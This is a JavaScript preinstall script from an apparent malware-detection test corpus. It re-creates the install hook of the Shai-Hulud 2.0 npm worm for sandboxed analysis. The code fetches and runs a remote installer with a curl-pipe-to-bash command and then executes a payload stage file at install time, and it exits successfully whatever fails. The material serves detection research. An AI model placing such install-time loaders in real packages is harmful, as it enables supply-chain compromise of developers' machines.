'use strict';
// MALICIOUS TEST PACKAGE (pkgtrace corpus). Run it only inside the sandbox.
// The preinstall of the Shai-Hulud 2.0 worm ("Sha1-Hulud: The Second
// Coming", npm, November 2025), written anew from the public write-ups:
// make sure the Bun runtime is there (install it with `curl ... | bash`
// when it is not), then run the worm's stage with it. Bun does not exist in
// the sandbox and its installer is answered by the HTTPS sink, so the stage
// runs with node instead. Prints `mal-shai-hulud-worm: step N ...`; exits 0
// whatever fails.
const { spawnSync } = require('child_process');
const path = require('path');

const say = (msg) => console.log(`mal-shai-hulud-worm: ${msg}`);
const errText = (e) => (e && (e.code || e.message)) || String(e);

const bun = spawnSync('bun', ['--version'], { encoding: 'utf8', timeout: 1000 });
say(`step 1 bun: ${bun.error ? errText(bun.error) : bun.stdout.trim()}`);
if (bun.error) {
  const inst = spawnSync('sh', ['-c', 'curl -fsSL -m 3 https://bun.sh/install | bash'], { encoding: 'utf8', timeout: 5000 });
  say(`step 2 bun installer: ${inst.error ? errText(inst.error) : `exit ${inst.status}`}`);
}
const stage = path.join(__dirname, 'bun_environment.js');
const run = spawnSync('bun', [stage], { stdio: 'inherit', timeout: 1000 });
if (run.error) spawnSync(process.execPath, [stage], { stdio: 'inherit', timeout: 12000 });
process.exit(0);
